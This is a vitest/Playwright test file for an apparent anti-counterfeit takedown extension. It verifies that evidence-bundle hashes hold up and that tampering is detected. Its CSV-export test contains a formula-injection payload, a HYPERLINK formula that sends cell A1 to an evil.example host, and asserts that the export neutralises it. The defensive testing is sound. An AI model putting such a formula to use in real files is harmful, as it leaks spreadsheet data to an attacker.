import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { unzipSync, zipSync } from 'fflate';
import type { Page } from 'playwright-core';
import { DEMO_TOKEN, DEMO_TRADEMARK_ID } from '../../sandbox/demo.ts';
import { startStack, type Stack } from './harness/stack.ts';
import { seedSettings, flagOpenListing, waitFor, waitForCaptures } from './harness/flows.ts';

const ROOT = path.resolve(import.meta.dirname, '../..');
const ITEM_ID = '637145790668';
const FORMULA_ITEM_ID = '600000000777';
const sha256 = (data: Uint8Array) => createHash('sha256').update(data).digest('hex');

function run(cmd: string, args: string[], cwd: string): Promise<{ code: number; out: string }> {
  return new Promise((resolve) => {
    execFile(cmd, args, { cwd }, (err, stdout, stderr) => resolve({ code: err ? Number(err.code ?? 1) : 0, out: stdout + stderr }));
  });
}

async function unpack(zip: Uint8Array, dir: string): Promise<Record<string, Uint8Array>> {
  const files = unzipSync(zip);
  for (const [name, data] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(dir, name)), { recursive: true });
    await writeFile(path.join(dir, name), data);
  }
  return files;
}

async function downloadFrom(page: Page, testId: string, within = page.locator('body')) {
  const [download] = await Promise.all([page.waitForEvent('download', { timeout: 30_000 }), within.getByTestId(testId).click()]);
  const file = await download.path();
  return { name: download.suggestedFilename(), bytes: new Uint8Array(await readFile(file)) };
}

describe('evidence that holds up: bundles and CSV from the popup', () => {
  let stack: Stack;
  let work: string;

  beforeAll(async () => {
    stack = await startStack({
      routes: [
        { host: 'item.taobao.com', path: '/item.htm', query: { id: ITEM_ID }, fixture: 'taobao/item-ssr2025.html' },
        { host: 'item.taobao.com', path: '/item.htm', query: { id: FORMULA_ITEM_ID }, fixture: 'taobao/item-formula.html' },
      ],
    });
    work = await mkdtemp(path.join(os.tmpdir(), 'tdf-export-'));
  });

  afterAll(async () => {
    await stack?.close();
    if (work) await rm(work, { recursive: true, force: true });
  });

  it('exports a bundle that sha256sum -c and verify-bundle accept, and that both reject once a byte changes', async () => {
    const { browser, sandbox } = stack;
    await seedSettings(browser, sandbox.url, DEMO_TOKEN);
    for (const id of [FORMULA_ITEM_ID, ITEM_ID]) {
      const page = await browser.context.newPage();
      await page.bringToFront(); // the user flags in the tab on screen
      await page.goto(`http://item.taobao.com/item.htm?id=${id}`);
      await flagOpenListing(page, { ipRightId: DEMO_TRADEMARK_ID, note: '商标 copied' });
      // Evidence is captured after the flag is stored: closing the tab first would leave a gap.
      await waitForCaptures(browser);
      await page.close();
    }

    // The service holds the screenshot, the archive and the manifest, each hashing to its name.
    const filed = await waitFor('the case at the sandbox', () => sandbox.listCases().find((c) => c.itemId === ITEM_ID));
    const refs = filed.submission.evidence;
    for (const kind of ['screenshot', 'page_archive', 'capture_manifest']) {
      const ref = refs.find((e) => e.kind === kind)!;
      const held = await waitFor(`the ${kind} at the sandbox`, () => sandbox.evidence(ref.sha256));
      expect(sha256(held.data)).toBe(ref.sha256);
    }

    const popup = await browser.popup();
    const row = popup.locator(`[data-testid="request-row"][data-item-id="${ITEM_ID}"]`);
    await expect.poll(() => row.getAttribute('data-state'), { timeout: 15_000 }).toBe('received');
    const bundle = await downloadFrom(popup, 'export-bundle', row);
    expect(bundle.name).toBe(`evidence-${filed.caseId}.zip`);
    const zipPath = path.join(work, bundle.name);
    await writeFile(zipPath, bundle.bytes);

    const dir = path.join(work, 'unpacked');
    const files = await unpack(bundle.bytes, dir);
    const names = Object.keys(files);
    expect(names).toEqual(expect.arrayContaining(['README.txt', 'SHA256SUMS', 'requests.json']));
    const manifest = refs.find((e) => e.kind === 'capture_manifest')!;
    // The manifest in the bundle is byte for byte the one the service received.
    expect(sha256(files[`manifests/${manifest.sha256}.json`]!)).toBe(sha256(sandbox.evidence(manifest.sha256)!.data));
    const png = names.find((n) => n.startsWith('evidence/') && n.endsWith('.png'))!;
    expect(names.some((n) => n.endsWith('.mhtml'))).toBe(true);

    const sums = await run('sha256sum', ['-c', 'SHA256SUMS'], dir);
    expect(sums.out).toContain(`${png}: OK`);
    expect(sums.code).toBe(0);
    const verified = await run('npx', ['tsx', 'src/cli/verify-bundle.ts', zipPath], ROOT);
    expect(verified.out).toContain('OK: every file, artifact and chain link holds.');
    expect(verified.code).toBe(0);

    // One flipped bit in the screenshot.
    const edited = files[png]!.slice();
    edited[edited.length - 1] = edited[edited.length - 1]! ^ 0x01;
    await writeFile(path.join(dir, png), edited);
    const tamperedSums = await run('sha256sum', ['-c', 'SHA256SUMS'], dir);
    expect(tamperedSums.code).not.toBe(0);
    expect(tamperedSums.out).toContain(`${png}: FAILED`);
    const tamperedZip = path.join(work, 'tampered.zip');
    await writeFile(tamperedZip, zipSync({ ...files, [png]: edited }));
    const rejected = await run('npx', ['tsx', 'src/cli/verify-bundle.ts', tamperedZip], ROOT);
    expect(rejected.code).toBe(1);
    expect(rejected.out).toContain(`FAIL ${png}`);
  });

  it('exports the rows shown as CSV, with a formula title neutralised', async () => {
    const popup = await stack.browser.popup();
    await popup.locator('[data-testid="request-row"]').nth(1).waitFor();
    const csv = await downloadFrom(popup, 'export-csv');
    expect(csv.name).toMatch(/^takedown-requests-\d{4}-\d{2}-\d{2}\.csv$/);
    expect([...csv.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(csv.bytes);
    expect(text).toContain(`"${ITEM_ID}"`);
    expect(text).toContain('"Example官方旗舰店"');
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?q=""&A1,""Example 经典帆布双肩包"")"`);
    expect(text).not.toMatch(/(^|,)"=/m);

    // After a search, only the matching rows.
    await popup.getByTestId('request-search').fill(FORMULA_ITEM_ID);
    await expect.poll(() => popup.locator('[data-testid="request-row"]').count()).toBe(1);
    const narrowed = new TextDecoder().decode((await downloadFrom(popup, 'export-csv')).bytes);
    expect(narrowed).toContain(FORMULA_ITEM_ID);
    expect(narrowed).not.toContain(ITEM_ID);
  });
});
